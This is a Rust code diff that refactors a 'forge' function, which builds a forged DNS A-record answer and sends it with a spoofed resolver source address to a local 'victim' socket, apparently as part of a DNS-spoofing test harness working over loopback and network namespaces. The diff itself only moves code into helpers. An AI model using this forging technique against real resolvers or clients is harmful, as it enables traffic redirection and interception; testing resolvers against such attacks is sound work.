@@ -25,10 +25,6 @@ pub fn forge(
     name: &str,
     forged: Ipv4Addr,
 ) -> anyhow::Result<Report> {
-    use simple_dns::{
-        CLASS, Name, Packet, ResourceRecord,
-        rdata::{A, RData},
-    };
     let query_bytes = crate::dns_query(name, "a")?;
     let victim = UdpSocket::bind("0.0.0.0:0")?;
     victim.set_read_timeout(Some(Duration::from_millis(500)))?;
@@ -46,16 +42,7 @@ pub fn forge(
         }
     };
     victim.send_to(&query_bytes, SocketAddr::new(resolver.into(), 53))?;
-    let query = Packet::parse(&query_bytes)?;
-    let mut answer = Packet::new_reply(query.id());
-    answer.questions = query.questions.clone();
-    answer.answers.push(ResourceRecord::new(
-        Name::new(name)?,
-        CLASS::IN,
-        3600,
-        RData::A(A::from(forged)),
-    ));
-    let answer = answer.build_bytes_vec()?;
+    let answer = crate::answer_naming(&query_bytes, name, 3600, forged)?;
     let ip = etherparse::PacketBuilder::ipv4(resolver.octets(), own.octets(), 64).udp(53, port);
     let sent = match mode {
         "raw" => {
@@ -123,33 +110,9 @@ fn send_raw(datagram: &[u8], to_address: Ipv4Addr) -> io::Result<()> {
     Ok(())
 }
 
-/// Sends an Ethernet frame on the loopback device through a packet socket.
+/// Sends an Ethernet frame on the loopback device (index 1 in every namespace) through a
+/// packet socket.
 fn send_on_loopback(frame: &[u8]) -> io::Result<()> {
-    // SAFETY: plain socket(2); owned below.
-    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
-    if fd < 0 {
-        return Err(io::Error::last_os_error());
-    }
-    // SAFETY: a fresh fd nobody else owns.
-    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
-    // SAFETY: sockaddr_ll is plain data; zeroed is valid.
-    let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
-    address.sll_family = libc::AF_PACKET as u16;
-    address.sll_ifindex = 1; // loopback, in every namespace
-    address.sll_halen = 6;
-    // SAFETY: a valid buffer and sockaddr_ll.
-    let sent = unsafe {
-        libc::sendto(
-            socket.as_raw_fd(),
-            frame.as_ptr().cast(),
-            frame.len(),
-            0,
-            (&raw const address).cast(),
-            size_of::<libc::sockaddr_ll>() as libc::socklen_t,
-        )
-    };
-    if sent < 0 {
-        return Err(io::Error::last_os_error());
-    }
-    Ok(())
+    let (socket, address) = crate::raw::packet_socket(1, [0; 6])?;
+    crate::raw::send_frame(&socket, &address, frame)
 }
